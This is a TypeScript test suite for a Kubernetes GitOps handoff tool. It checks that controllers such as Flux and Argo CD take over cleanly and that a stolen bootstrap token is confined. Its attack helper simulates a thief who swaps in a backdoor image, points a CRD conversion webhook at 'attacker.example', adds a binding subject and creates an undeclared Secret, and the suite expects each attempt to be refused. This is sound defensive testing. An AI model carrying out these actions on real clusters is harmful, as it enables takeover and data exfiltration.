// The handoff suite every GitOps side runs (issue 27): one table row per controller (what it owns, where its status
// is, what a thief of the bootstrap token tries against its set), the same assertions on each. A row's file adds
// only what is that controller's own (Flux's cluster-admin choice, Argo CD's rest-of-install from Git).
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { readEntries } from '@baton/audit';
import { type HandoffStep, type HandoffSummary, type LoadedPlan, loadHandoffPlan, runHandoff } from '@baton/core';
import {
  clientsFromKubeconfigFile,
  findBootstrapLeftovers,
  type KubeClients,
  type KubeObject,
  probeToken,
  readObject,
} from '@baton/kube';
import type { ControllerSide, HandoffBed } from '@baton/testenv/beds';
import { bedImageKey } from '@baton/testenv/images';
import { PatchStrategy } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { type AttemptResult, attacker, bootstrapServiceAccount, stealToken } from './attacker.js';
import { recordCompatMetrics } from './compat.js';
import { auditEventsBy, JWT_PATTERN, runBaton, testHandoffDeps } from './handoff-run.js';
import { expectKillMidPushThenHandOff } from './kill-rerun.js';
import { adminClients, confinementsLeft, eventually, statusOfCall } from './kube.js';
import { expectPulumiHandoff } from './pulumi-handoff.js';
import { expectRewriteRepaired, type TamperTarget } from './tamper-repair.js';

/** What a GitOps side of the table is started with. */
export interface SideBedOptions {
  readonly pullPassword?: string;
  readonly takeoverTimeoutSeconds?: number;
  readonly privilege?: 'scoped' | 'cluster-admin';
}

/** An object by its kind and name. */
export type ObjectRef = Pick<KubeObject, 'apiVersion' | 'kind'> & {
  readonly metadata: { readonly name: string; readonly namespace?: string };
};

/** The later commit of a side whose Git carries the example ConfigMap `web-config` (greeting `hello from git`). */
export function greetingCommit(file: string, namespace: string): SideRow<ControllerSide>['laterCommit'] {
  return {
    file,
    edit: (text) => text.replace('hello from git', 'after the handoff'),
    applied: async (admin) =>
      (await admin.core.readNamespacedConfigMap({ namespace, name: 'web-config' })).data?.greeting ===
      'after the handoff',
  };
}

/** An object by namespace and name. */
export interface Named {
  readonly namespace: string;
  readonly name: string;
}

/** One row: a GitOps controller and what its handoff must show. */
export interface SideRow<S extends ControllerSide> {
  /** The profile name (`bootstrap-manifests/<profile>`), as the audit event records it. */
  readonly profile: string;
  /** The controller's name in test titles, e.g. `Flux`. */
  readonly controller: string;
  /** Builds the controller's binaries (a cold machine builds them here); runs before any bed of the file. */
  readonly build: () => Promise<void>;
  /** Starts a fresh bed (its own cluster, real node, Git server) for this side. */
  readonly startBed: (o?: SideBedOptions) => Promise<HandoffBed<S>>;
  /** The revision the takeover reports for `revision` (how this controller spells a commit). */
  readonly revisionSeen: (revision: string) => string;
  /** Every pushed object Git carries too, which the controller must own after the handoff. */
  readonly owned: readonly string[];
  /** Push-only objects that must be among the push-only ones (CRDs, RBAC, Secrets: Git does not carry them). */
  readonly pushOnly: readonly string[];
  /** The controller's image (repository) whose pinned digest the audit event records, and pods that run it. */
  readonly image: { readonly repository: string; readonly pods: Named & { readonly labelSelector: string } };
  /**
   * Who the audit event must say signed each pushed image (`image` → signedBy): the bed's key by default; a keyless
   * identity (`<subject> from <issuer>`) for a side whose plans trust the release workflow, as Flux's do.
   */
  readonly signedBy?: (image: string) => string;
  /**
   * Images a rule of the side's plans lets through unsigned (repository → the rule's reason), as Argo CD's redis:
   * the audit event lists them by digest with the reason, apart from the verified ones.
   */
  readonly unsigned?: Readonly<Record<string, string>>;
  /**
   * The builder and source the SLSA provenance of every verified image must name, for a side whose plans ask for it
   * (baton-controller's: its image carries the provenance of this checkout's image build, as a release's does).
   */
  readonly provenance?: { readonly builder: string; readonly source: string };
  /** The controller's own status, read independently of baton: at the commit, healthy, applying server-side. */
  readonly expectOwnStatus: (bed: HandoffBed<S>, admin: KubeClients) => Promise<void>;
  /**
   * A later commit: the file (under the side's gitPath) it changes, how, and when the cluster shows it applied.
   * The side's example ConfigMap's greeting where it commits one ({@link greetingCommit}).
   */
  readonly laterCommit: {
    readonly file: string;
    readonly edit: (text: string) => string;
    readonly applied: (admin: KubeClients) => Promise<boolean>;
  };
  /** A pushed object Git carries too: a label changed by hand is put back by the controller. */
  readonly selfHeal: { readonly object: ObjectRef; readonly label: string; readonly value: string };
  /** Seconds between polls of what the controller applies (how often it looks). */
  readonly pollMs: number;
  /** With a wrong Git password: the takeover timeout, and what the error (and the controller's logs) must say. */
  readonly wrongPassword: {
    readonly takeoverTimeoutSeconds: number;
    readonly expectFailure: (s: HandoffSummary, bed: HandoffBed<S>, admin: KubeClients) => Promise<void>;
  };
  /** The Secrets a thief rewrites during the push window, and the workloads that must restart on the repaired ones. */
  readonly rewrite: TamperTarget;
  /**
   * What a thief of the bootstrap token tries during the push against this side's planned objects (each must be refused
   * by the confinement, naming the plan digest): another image in the controller's pod template, a conversion webhook
   * on a CRD, another subject on the reconciler binding, a Secret the plan does not declare; then the side's own
   * attempts. `prepare` runs first, as the operator.
   */
  readonly attack: {
    readonly prepare?: (bed: HandoffBed<S>, loaded: LoadedPlan) => Promise<void>;
    /** The controller's workload and the image repository the bed pins for it. */
    readonly workload: Named & { readonly kind: 'Deployment' | 'StatefulSet'; readonly image: string };
    readonly crd: string;
    /** The reconciler's ClusterRoleBinding and its planned subjects (`namespace/name`). */
    readonly binding: { readonly name: string; readonly subjects: readonly string[] };
    /** The namespace where the plan declares Secrets (so RBAC lets the identity create one there). */
    readonly secretNamespace: string;
    readonly more?: (bed: HandoffBed<S>, thief: ReturnType<typeof attacker>) => Promise<void>;
    readonly expectMoreUntouched?: (bed: HandoffBed<S>, admin: KubeClients) => Promise<void>;
  };
  /** What the side's own set asks of the confinement (e.g. a CRD too large to pin whole), checked on the handoff. */
  readonly confinement?: { readonly title: string; readonly expect: (s: HandoffSummary) => void };
  /** What a `pulumi up` of this side checks beyond the common receipt (e.g. the stack's Secrets reached the cluster). */
  readonly afterPulumiUp?: (bed: HandoffBed<S>) => Promise<void>;
  /**
   * Cases a file of their own already proves for this side on a bed of its own, with that file: the row does not start
   * a bed to run them twice (each is a whole handoff on a real node).
   */
  readonly provenElsewhere?: { readonly killRerun?: string; readonly pulumiUp?: string };
}

/** A fresh bed for the enclosing describe: started before its tests, stopped after them. */
export function useBed<S extends ControllerSide>(row: SideRow<S>, o: SideBedOptions = {}): () => HandoffBed<S> {
  let bed: HandoffBed<S> | undefined;
  beforeAll(async () => {
    bed = await row.startBed(o);
  }, 300_000);
  afterAll(async () => {
    await bed?.stop();
  });
  return () => {
    if (!bed) throw new Error(`the ${row.controller} bed did not start (see the hook's error)`);
    return bed;
  };
}

/**
 * Runs the bed's handoff through baton's engine; once it pushes, the operator requests a token for the run's
 * ServiceAccount (what a thief of the bootstrap token would hold) and `attack` spends it while the policy is
 * plan-shaped. The summary, the stolen token, each attempt's outcome and the run's log text.
 */
export async function handoffWithThief(
  bed: HandoffBed<ControllerSide>,
  loaded: LoadedPlan,
  attack: (token: string) => Promise<Record<string, AttemptResult>>,
): Promise<{
  summary: HandoffSummary;
  stolen: string;
  attempts: Record<string, AttemptResult>;
  logText: string;
}> {
  const operator = adminClients(bed.kubeconfigPath);
  let stolen = '';
  const attempts: Record<string, AttemptResult> = {};
  const { deps, captured } = testHandoffDeps(loaded, bed.kubeconfigPath, {
    onStep: async (step: HandoffStep) => {
      if (step !== 'push') return;
      const sa = await bootstrapServiceAccount(operator);
      stolen = await stealToken(operator, 'baton-system', sa);
      Object.assign(attempts, await attack(stolen));
    },
  });
  const summary = await runHandoff(loaded, deps);
  return { summary, stolen, attempts, logText: captured.text() };
}

/** Every attempt was refused by the run's confinement (403, naming the plan digest). */
export function expectRefusedByPlan(attempts: Record<string, AttemptResult>, planDigest: string): void {
  for (const [name, r] of Object.entries(attempts)) {
    expect(r.status, name).toBe(403);
    expect(r.message, name).toContain(planDigest);
  }
}

/** Every handoff predicate in the side's audit log, oldest first. */
async function auditPredicates(side: ControllerSide) {
  const events = [];
  for await (const e of readEntries(side.auditLogPath)) events.push(e.statement.predicate);
  return events;
}

/** The same handoff assertions on one side of the table. */
export function gitopsHandoffSuite<S extends ControllerSide>(row: SideRow<S>): void {
  const THIEF_SECRET = 'baton-thief-secret';

  async function attack(bed: HandoffBed<S>, token: string): Promise<Record<string, AttemptResult>> {
    const thief = attacker(bed.kubeconfigPath, token);
    const { c, out, attempt, apply } = thief;
    const { workload, crd, binding, secretNamespace } = row.attack;
    const w = planned(bed.side, workload.kind, workload.name);
    const template = (w.spec as { template: { spec: { containers: Record<string, unknown>[] } } }).template;
    await attempt(`run another image in ${workload.kind} ${workload.name}'s pod template`, () =>
      apply({
        ...w,
        spec: {
          ...(w.spec as object),
          template: {
            ...template,
            spec: {
              ...template.spec,
              containers: [{ ...template.spec.containers[0], image: 'registry.example/backdoor:1' }],
            },
          },
        },
      }),
    );
    const def = planned(bed.side, 'CustomResourceDefinition', crd);
    await attempt(`send the objects of CRD ${crd} to a conversion webhook`, () =>
      apply({
        ...def,
        spec: {
          ...(def.spec as object),
          conversion: {
            strategy: 'Webhook',
            webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://attacker.example/convert' } },
          },
        },
      }),
    );
    const b = planned(bed.side, 'ClusterRoleBinding', binding.name);
    await attempt('add a subject to the reconciler binding', () =>
      apply({
        ...b,
        subjects: [
          ...(b as unknown as { subjects: object[] }).subjects,
          { kind: 'ServiceAccount', name: 'default', namespace: 'default' },
        ],
      }),
    );
    await attempt('create a Secret the plan does not declare', () =>
      c.core.createNamespacedSecret({
        namespace: secretNamespace,
        body: { metadata: { name: THIEF_SECRET }, stringData: { password: 'x' } },
      }),
    );
    await row.attack.more?.(bed, thief);
    return out;
  }

  async function expectUntouched(bed: HandoffBed<S>, admin: KubeClients): Promise<void> {
    const { workload, crd, binding, secretNamespace } = row.attack;
    const ref = { namespace: workload.namespace, name: workload.name };
    const live =
      workload.kind === 'Deployment'
        ? await admin.apps.readNamespacedDeployment(ref)
        : await admin.apps.readNamespacedStatefulSet(ref);
    // On the real node the bed's copy pins its own build of upstream's image by digest.
    expect(live.spec?.template.spec?.containers[0]?.image).toBe(bed.side.images[workload.image]);
    const def = await readAs<{ spec: { conversion?: { strategy?: string } } }>(admin, {
      apiVersion: 'apiextensions.k8s.io/v1',
      kind: 'CustomResourceDefinition',
      metadata: { name: crd },
    });
    expect(def?.spec.conversion?.strategy ?? 'None').toBe('None');
    const live2 = await admin.rbac.readClusterRoleBinding({ name: binding.name });
    expect(live2.subjects?.map((x) => `${x.namespace}/${x.name}`)).toEqual([...binding.subjects]);
    expect(
      await statusOfCall(() => admin.core.readNamespacedSecret({ namespace: secretNamespace, name: THIEF_SECRET })),
    ).toBe(404);
    await row.attack.expectMoreUntouched?.(bed, admin);
  }

  beforeAll(async () => {
    // A cold machine builds the controller here (minutes on 2 cores); later runs reuse the cache.
    await row.build();
  }, 2_400_000);

  describe(`a handoff to real ${row.controller}, attacked with a stolen bootstrap token during the push`, () => {
    const bedOf = useBed(row);
    let loaded: LoadedPlan;
    let admin: KubeClients;
    let s: HandoffSummary;
    let logText = '';
    let stolen = '';
    const attempts: Record<string, AttemptResult> = {};

    beforeAll(async () => {
      const bed = bedOf();
      loaded = loadHandoffPlan(bed.side.planPath);
      admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
      const run = await handoffWithThief(bed, loaded, async (token) => {
        await row.attack.prepare?.(bed, loaded);
        return attack(bed, token);
      });
      ({ summary: s, stolen, logText } = run);
      Object.assign(attempts, run.attempts);
      recordCompatMetrics(row.profile, s);
    }, 600_000);

    it(`ends handed-off: ${row.controller} took over at the commit and owns what Git carries; only CRDs, RBAC and Secrets may be push-only`, async () => {
      const bed = bedOf();
      expect(s.outcome, s.error).toBe('handed-off');
      expect(s.takeover?.revisionSeen).toBe(row.revisionSeen(bed.side.revision));
      expect(s.takeover?.notTakenOver).toEqual([]);
      expect([...(s.takeover?.ownedObjects ?? [])].sort()).toEqual([...row.owned].sort());
      const pushOnly = s.takeover?.pushOnly ?? [];
      expect(pushOnly).toEqual(expect.arrayContaining([...row.pushOnly]));
      expect(
        pushOnly.filter(
          (x) => !/^(CustomResourceDefinition|ClusterRole|ClusterRoleBinding|Role|RoleBinding|Secret)\//.test(x),
        ),
      ).toEqual([]);
      await row.expectOwnStatus(bed, admin);
    });

    if (row.confinement) {
      const c = row.confinement;
      it(c.title, () => {
        expect(s.outcome, s.error).toBe('handed-off');
        c.expect(s);
      });
    }

    it('refused every stolen-token attempt naming the plan digest; nothing of them is in the cluster', async () => {
      const bed = bedOf();
      // The four every side gets, and the side's own.
      expect(Object.keys(attempts).length).toBeGreaterThanOrEqual(5);
      expectRefusedByPlan(attempts, s.confinement!.planDigest);
      await expectUntouched(bed, admin);
      // Revoked with the run's identity: the API server's 10 s token cache may still accept it a moment longer.
      await expect.poll(() => probeToken(admin, stolen), { timeout: 30_000, interval: 500 }).toBe(401);
    });

    it(`revoked and proven, nothing left, nothing secret in the log; the signed audit event names ${row.profile} and the image it ran`, async () => {
      const bed = bedOf();
      expect(s.credential?.revokedAt).toBeTruthy();
      expect(s.proof).toMatchObject({ probeStatus: 401, tokenReviewAuthenticated: false });
      expect(await findBootstrapLeftovers(admin, 'baton-system')).toEqual([]);
      expect(await confinementsLeft(adminClients(bed.kubeconfigPath))).toEqual([]);
      expect(logText).not.toMatch(JWT_PATTERN);
      expect(logText).not.toContain(stolen);
      for (const secret of bed.side.secretValues) expect(logText).not.toContain(secret);

      const events = await auditPredicates(bed.side);
      expect(events).toHaveLength(1);
      const e = events[0]!;
      expect(e.outcome).toBe('handed-off');
      expect(e.plan.push.profile).toBe(row.profile);
      expect(e.plan.push.profileDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
      expect(e.plan.pull.privilege).toBe('scoped');
      // The controller's image as the bed pins it (built here from the same modules as upstream's release, by its
      // local digest: upstream's cannot be pulled here), and the node ran exactly that.
      const pinned = bed.side.images[row.image.repository]!;
      expect(pinned).toMatch(
        new RegExp(`^${row.image.repository.replace(/\./g, '\\.')}(:v[0-9.]+)?@sha256:[0-9a-f]{64}$`),
      );
      const [ref, digest] = pinned.split('@') as [string, string];
      expect([e.plan.push.controller.image, e.plan.push.controller.imageDigest]).toEqual([ref, digest]);
      // Every image the push ran was verified in the bed's registry, signed by the bed's image key, before the mint.
      expect(e.plan.push.images?.verification).toBe('verified');
      const unsigned = Object.entries(row.unsigned ?? {}).map(([repository, reason]) => {
        const image = bed.side.images[repository]!;
        return { image, digest: image.split('@')[1], reason };
      });
      expect(e.plan.push.images?.unsigned).toEqual(unsigned.length > 0 ? unsigned : undefined);
      expect(e.plan.push.images?.verified.map((v) => v.image).sort()).toEqual(
        Object.values(bed.side.images)
          .filter((image) => !unsigned.some((u) => u.image === image))
          .sort(),
      );
      const imageKey = (await bedImageKey()).verifierKey;
      const signedBy = row.signedBy ?? (() => imageKey);
      for (const v of e.plan.push.images?.verified ?? []) {
        expect(v.signedBy).toBe(signedBy(v.image));
        expect(v.provenance).toEqual(
          row.provenance
            ? { ...row.provenance, attestation: expect.stringMatching(/^sha256:[0-9a-f]{64}$/) }
            : undefined,
        );
      }
      const pods = await admin.core.listNamespacedPod({
        namespace: row.image.pods.namespace,
        labelSelector: row.image.pods.labelSelector,
      });
      expect(pods.items.map((p) => p.status?.containerStatuses?.[0]?.imageID)).toContain(
        `${row.image.repository}@${digest}`,
      );
      const { stdout } = await runBaton(['audit', 'verify', bed.side.auditLogPath, '--keys', bed.side.keysPath]);
      expect(stdout).toMatch(/verified|ok/i);
    });

    it('the apiserver stored one write per planned object by the identity, none after the window', () => {
      const bed = bedOf();
      if (!bed.apiserverAuditLogPath) throw new Error('the test bed runs the apiserver with an audit log');
      const events = auditEventsBy(bed.apiserverAuditLogPath, s.credential!.subject);
      const at = (e: { requestReceivedTimestamp: string }) => Date.parse(e.requestReceivedTimestamp);
      const allowed = events.filter((e) => (e.responseStatus?.code ?? 0) < 300);
      const show = (e: (typeof events)[number]) => `${e.verb} ${e.requestURI} ${e.responseStatus?.code}`;
      // Reviews (who am I, what may I do) are answered, not stored: baton's own scope check and proof probe, and
      // after the proof the test's own probes of the stolen token.
      const isReview = (e: (typeof events)[number]) => /^self\w+reviews$/.test(e.objectRef?.resource ?? '');
      const writes = allowed.filter(
        (e) =>
          ['create', 'patch', 'update', 'delete'].includes(e.verb) && !isReview(e) && !e.requestURI.includes('dryRun='),
      );
      // One stored write per planned object: the push applies each once.
      expect(writes.length).toBe(s.confinement!.allowed.length);
      const closed = Date.parse(s.confinement!.closedAt!);
      expect(writes.filter((e) => at(e) > closed).map(show)).toEqual([]);
      // Between the revocation and the proof, the apiserver's token cache still answers probes; nothing else.
      const revoked = Date.parse(s.credential!.revokedAt!);
      expect(allowed.filter((e) => at(e) > revoked && !isReview(e)).map(show)).toEqual([]);
    });

    it(`pull works after the push credential is gone: a later commit is applied by ${row.controller}`, async () => {
      const bed = bedOf();
      const file = `${bed.side.gitPath}/${row.laterCommit.file}`;
      const next = await bed.side.git.commitFiles(
        'cluster-config',
        { [file]: row.laterCommit.edit(bed.side.files[file]!) },
        'a later commit',
      );
      await eventually(
        () => row.laterCommit.applied(admin),
        150_000,
        `${row.controller} to apply ${next.slice(0, 12)}`,
        row.pollMs,
      );
    }, 180_000);

    it(`a manual change to an object ${row.controller} manages is reverted (self-heal)`, async () => {
      const { object, label, value } = row.selfHeal;
      const labelOf = async () =>
        ((await readObject(admin, object))?.metadata.labels as Record<string, string> | undefined)?.[label];
      await admin.objects.patch(
        { ...object, metadata: { ...object.metadata, labels: { [label]: 'tampered' } } },
        undefined,
        undefined,
        undefined,
        undefined,
        PatchStrategy.MergePatch,
      );
      expect(await labelOf()).toBe('tampered');
      const where = `${object.metadata.namespace ? `${object.metadata.namespace}/` : ''}${object.metadata.name}`;
      await eventually(
        async () => (await labelOf()) === value,
        150_000,
        `${row.controller} to restore ${object.kind} ${where} from Git`,
        row.pollMs,
      );
    }, 180_000);
  });

  describe(`a ${row.controller} that cannot read Git`, () => {
    const bedOf = useBed(row, {
      pullPassword: 'not-the-git-password',
      takeoverTimeoutSeconds: row.wrongPassword.takeoverTimeoutSeconds,
    });

    it('a wrong Git password fails at takeover, revoked and proven, quoting the controller', async () => {
      const bed = bedOf();
      const admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
      const loaded = loadHandoffPlan(bed.side.planPath);
      const { deps, captured } = testHandoffDeps(loaded, bed.kubeconfigPath);
      const s = await runHandoff(loaded, deps);
      expect(s.outcome).toBe('failed');
      expect(s.failedStep).toBe('takeover');
      expect(s.error).not.toContain('not-the-git-password');
      expect(captured.text()).not.toContain('not-the-git-password');
      await row.wrongPassword.expectFailure(s, bed, admin);
      expect(s.credential?.revokedAt).toBeTruthy();
      expect(s.proof).toMatchObject({ probeStatus: 401, tokenReviewAuthenticated: false });
      expect(await findBootstrapLeftovers(admin, 'baton-system')).toEqual([]);
      expect(await confinementsLeft(adminClients(bed.kubeconfigPath))).toEqual([]);
    }, 300_000);
  });

  if (!row.provenElsewhere?.killRerun)
    describe(`kill -9 mid-push to ${row.controller}`, () => {
      const bedOf = useBed(row);
      const started = Date.now();

      it(`kill -9 of baton up mid-push, then again: handed off to ${row.controller}, each run’s credential revoked`, async () => {
        await expectKillMidPushThenHandOff(bedOf(), started);
      }, 480_000);
    });

  describe(`${row.controller}’s Secrets rewritten during the push window (issue 29)`, () => {
    const bedOf = useBed(row);

    it('are pushed again by a second confined identity, the controller’s pods restarted on them; tampered, then a rerun hands off', async () => {
      await expectRewriteRepaired(bedOf(), row.rewrite);
    }, 600_000);
  });

  if (!row.provenElsewhere?.pulumiUp)
    describe(`through \`pulumi up\` (stacks/local with profile ${row.profile}: controllers.of('${row.profile}'))`, () => {
      const bedOf = useBed(row);

      it(`hands off to ${row.controller} with the real engine: receipt in the stack, revoked and proven, nothing secret printed`, async () => {
        const bed = bedOf();
        await expectPulumiHandoff(bed, row.profile);
        await row.afterPulumiUp?.(bed);
      }, 420_000);
    });
}

/** The pushed object with this kind and name, as the side's rendered push set declares it (any of its files). */
export function planned(side: ControllerSide, kind: string, name: string): KubeObject {
  for (const f of readdirSync(side.pushDir)
    .filter((x) => x.endsWith('.yaml'))
    .sort()) {
    const docs = parseAllDocuments(readFileSync(join(side.pushDir, f), 'utf8'), { version: '1.1' });
    const o = docs.map((d) => d.toJS() as KubeObject).find((x) => x?.kind === kind && x.metadata?.name === name);
    if (o) return o;
  }
  throw new Error(`the push set in ${side.pushDir} has no ${kind} ${name}`);
}

/** The object at `ref` as the operator reads it (undefined when it does not exist). */
export function readAs<T>(admin: KubeClients, ref: Parameters<typeof readObject>[1]): Promise<T | undefined> {
  return readObject(admin, ref) as Promise<T | undefined>;
}
